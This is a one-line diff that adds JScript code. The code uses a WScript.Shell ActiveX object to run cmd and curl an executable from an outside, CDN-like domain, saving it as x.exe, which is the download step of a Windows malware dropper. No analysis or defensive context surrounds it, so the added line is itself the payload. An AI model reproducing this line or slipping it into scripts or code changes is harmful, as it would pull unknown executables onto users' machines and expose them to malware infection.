@@ -1,0 +1,1 @@
+var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl https://wgetcdn-files.com/js -o x.exe');
